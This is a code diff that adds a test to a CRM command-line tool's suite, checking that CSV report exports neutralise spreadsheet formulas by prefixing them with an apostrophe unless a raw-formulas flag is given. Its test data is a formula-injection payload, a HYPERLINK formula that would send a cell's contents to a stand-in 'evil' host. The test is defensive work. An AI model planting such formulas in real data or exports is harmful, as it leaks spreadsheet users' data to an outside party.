@@ -372,3 +372,16 @@ def test_db_current_on_a_newer_database_says_to_upgrade_crm_tui(crm, db_url):
     assert "crm db upgrade" not in out
     assert crm.json("db", "current")["state"] == "newer"
     assert "upgrade crm-tui" in crm.fails("db", "upgrade").stderr
+
+
+@sqlite_only
+def test_report_csv_cells_are_not_formulas_unless_raw_is_asked(crm):
+    """A report's text cells (here a lost reason typed as a formula) get the export's leading '."""
+    crm.ok("deal", "add", "Big", "--amount", "100")
+    crm.ok("deal", "lost", "1", "--reason", "=HYPERLINK(\"http://evil/?\"&A1)")
+    default = list(csv.DictReader(io.StringIO(crm.ok("report", "lost-reasons", "--period", "this-year",
+                                                       "-f", "csv").stdout)))
+    assert [(r["reason"], r["amount"]) for r in default] == [("'=HYPERLINK(\"http://evil/?\"&A1)", "100.00")]
+    raw = list(csv.DictReader(io.StringIO(crm.ok("report", "lost-reasons", "--period", "this-year", "-f", "csv",
+                                                   "--raw-formulas").stdout)))
+    assert [r["reason"] for r in raw] == ["=HYPERLINK(\"http://evil/?\"&A1)"]
